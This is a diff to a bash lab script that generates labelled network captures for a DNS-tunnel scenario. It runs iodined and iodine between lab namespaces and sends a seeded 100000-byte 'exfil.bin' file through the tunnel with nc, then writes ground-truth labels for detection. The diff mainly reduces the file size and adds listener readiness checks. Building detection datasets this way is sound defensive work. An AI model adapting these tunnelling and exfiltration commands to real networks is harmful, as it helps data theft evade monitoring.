@@ -328,11 +328,13 @@ scenario_rate_control() {
 scenario_dns_tunnel() {
   local name=dns-tunnel-iodine
   [[ -c /dev/net/tun ]] || { modprobe tun 2>/dev/null || true; mkdir -p /dev/net; [[ -c /dev/net/tun ]] || mknod /dev/net/tun c 10 200; }
-  "$PY" "$HELPER" mkfile "$WORK/exfil.bin" 150000 99
+  "$PY" "$HELPER" mkfile "$WORK/exfil.bin" 100000 99
   local srv=(iodined -f -c -l "$NET.70" -P labsecret -m 1200 192.168.99.1 t.lab.example)
   spawn tun timeout 120 "${srv[@]}"
-  spawn tun timeout 120 sh -c "nc -l 192.168.99.1 5001 > $WORK/exfil.received" 2>/dev/null || true
+  for _ in $(seq 30); do nsx tun ip -4 addr show dns0 2>/dev/null | grep -q 192.168.99.1 && break; sleep 0.3; done
+  spawn tun timeout 120 sh -c "nc -l 192.168.99.1 5001 > $WORK/exfil.received"
   sleep 1
+  nsx tun ss -ltn | grep -q '192.168.99.1:5001 ' || { cat "$WORK/tun.log" >&2; die "iodined/nc listener not up"; }
   capture_start "$name" 1600
   CMDS+=("ip netns exec $P-tun ${srv[*]}" "ip netns exec $P-tun nc -l 192.168.99.1 5001 > exfil.received")
   benign_bg 61 60 --page-loads 1 --min-pause 2 --max-pause 6
@@ -343,14 +345,14 @@ scenario_dns_tunnel() {
   local IOD_PID=${PIDS[-1]}
   for _ in $(seq 30); do nsx c1 ip -4 addr show dns0 2>/dev/null | grep -q 192.168.99 && break; sleep 1; done
   nsx c1 ip -4 addr show dns0 | grep -q 192.168.99 || { cat "$WORK/c1.log" >&2; die "iodine tunnel did not come up"; }
-  rec c1 "nc -N -w 5 192.168.99.1 5001 < exfil.bin   # 150000 bytes, seeded random"
+  rec c1 "nc -N -w 5 192.168.99.1 5001 < exfil.bin   # 100000 bytes, seeded random"
   nsx c1 timeout 50 nc -N -w 5 192.168.99.1 5001 <"$WORK/exfil.bin" || log "nc over iodine exit $?"
   sleep 2
   kill "$IOD_PID" 2>/dev/null || true
   wait_benign
   capture_stop "$name"
-  log "iodine received $(stat -c %s "$WORK/exfil.received" 2>/dev/null || echo 0) of 150000 bytes"
-  write_truth "$name" "iodine 0.7.0 DNS tunnel: client 10.77.0.10 -> resolver dnsmasq 10.77.0.53 -> iodined 10.77.0.70 (authoritative for t.lab.example), relay mode (-r, no raw UDP), carrying a 150000-byte nc upload through the tunnel; plus benign background from both clients. The bridge sees both legs: client->resolver and resolver->iodined." \
+  log "iodine received $(stat -c %s "$WORK/exfil.received" 2>/dev/null || echo 0) of 100000 bytes"
+  write_truth "$name" "iodine 0.7.0 DNS tunnel: client 10.77.0.10 -> resolver dnsmasq 10.77.0.53 -> iodined 10.77.0.70 (authoritative for t.lab.example), relay mode (-r, no raw UDP), carrying a 100000-byte nc upload through the tunnel (iodine autodetects the upstream codec through dnsmasq: in the committed capture it chose 8-bit Base128 labels, i.e. query names with raw non-ASCII bytes); plus benign background from both clients. The bridge sees both legs: client->resolver and resolver->iodined." \
     "iodine 0.7.0 -f -r -P *** -m 1200 10.77.0.53 t.lab.example; iodined -f -c -l 10.77.0.70 -P *** -m 1200 192.168.99.1 t.lab.example" \
     '[{"kind":"tunnel.dns","src":"10.77.0.10","dst":"10.77.0.53","port":53,"domain":"t.lab.example","leg":"client to resolver"},{"kind":"tunnel.dns","src":"10.77.0.53","dst":"10.77.0.70","port":53,"domain":"t.lab.example","leg":"resolver to iodined (forwarded)"}]' \
     '["scan.vertical","scan.horizontal","tunnel.icmp"]' \
